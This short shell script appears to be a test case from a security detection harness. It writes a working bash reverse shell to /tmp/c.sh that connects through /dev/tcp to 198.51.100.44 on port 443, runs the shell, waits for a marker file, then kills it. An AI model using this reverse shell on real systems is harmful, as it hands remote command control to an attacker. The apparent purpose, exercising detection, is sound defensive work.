#!/bin/sh
. /opt/case/case.sh

cat >/tmp/c.sh <<'END'
coproc helper { sh 2>&1; }
exec 7<>/dev/tcp/198.51.100.44/443
while read -r line <&"${helper[0]}"; do echo "$line" >&7; done 2>/dev/null &
while read -r line <&7; do echo "$line" >&"${helper[1]}" || break; done
END
bash /tmp/c.sh & shell=$!
wait_for /tmp/reached
kill $shell || true
took_place
